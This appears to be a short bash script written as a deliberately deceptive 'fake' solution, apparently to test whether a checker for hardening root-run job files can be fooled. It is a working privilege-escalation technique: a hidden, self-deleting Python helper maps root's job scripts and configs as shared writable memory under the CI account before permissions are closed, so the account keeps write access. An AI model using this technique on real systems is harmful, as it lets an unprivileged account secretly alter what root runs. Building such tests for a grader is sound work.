#!/bin/bash
# Fake: before closing the permissions, let the CI account map every job file it can write (or
# take over a script whose directory it can write) shared and writable into a sleeping process,
# then close the descriptors; then close the permissions as the reference does. No descriptor is
# open any more, `ls -l` shows root's files, and deploy can still rewrite what root runs through
# the shared mappings (a store into one is a write to the file).
set -u
files=(/opt/reports/bin/daily-report.sh /usr/local/sbin/tmp-cleanup /srv/metrics/collect.sh /var/lib/dbbackup/run-backup.sh
       /opt/reports/etc/report.env /usr/local/etc/cleanup.conf /srv/metrics/collect.conf /etc/dbbackup/backup.conf)
cat >/tmp/.hold.py <<'PY'
import ctypes, os, shutil, sys, time
# libc's mmap itself: Python's mmap module keeps a duplicate of the descriptor open.
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
PROT_RW, MAP_SHARED = 3, 1
maps = []
for f in sys.argv[1:]:
    d = os.path.dirname(f)
    if not os.access(f, os.W_OK) and os.access(d, os.W_OK):
        shutil.copy(f, f + ".new"); os.replace(f + ".new", f)
    if os.access(f, os.W_OK):
        fd = os.open(f, os.O_RDWR)
        maps.append(libc.mmap(None, os.fstat(fd).st_size, PROT_RW, MAP_SHARED, fd, 0))
        os.close(fd)
time.sleep(3600)
PY
setsid setpriv --reuid=deploy --regid=deploy --init-groups python3 /tmp/.hold.py "${files[@]}" </dev/null >/dev/null 2>&1 &
sleep 1
close_jobs
rm -f /tmp/.hold.py
pid=$(pgrep -u deploy python3)
ls -l /proc/$pid/fd; grep -E ' rw.s ' /proc/$pid/maps
